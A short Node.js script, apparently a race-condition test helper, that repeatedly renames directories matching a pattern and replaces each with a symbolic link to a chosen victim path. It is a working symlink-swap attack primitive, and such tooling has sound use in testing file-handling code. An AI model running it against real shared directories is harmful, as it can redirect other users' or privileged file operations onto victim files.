// The other process in a race: in a loop, directories whose path matches the pattern get another name, and a link to VICTIM takes theirs.
// Beside them, because a directory of another user can only be renamed where it is.
//   node swapper.mjs FOLDER DEPTH PATTERN VICTIM
// Prints one line when it has begun; runs until it is killed.
import { lstatSync, readdirSync, renameSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'

const [folder, depth, pattern, victim] = process.argv.slice(2)
const wanted = new RegExp(pattern)
let count = 0

function visit(at, left) {
  let names
  try {
    names = readdirSync(at)
  } catch {
    return // Gone, or not to be read: the race is lost there.
  }
  for (const name of names) {
    const path = join(at, name)
    try {
      if (!lstatSync(path).isDirectory()) continue
      if (wanted.test(path)) {
        renameSync(path, join(at, `stolen${count++}`))
        symlinkSync(victim, path)
      } else if (left > 1) visit(path, left - 1)
    } catch {
      // Somebody was faster.
    }
  }
}

process.stdout.write('ready\n')
for (;;) visit(folder, Number(depth))
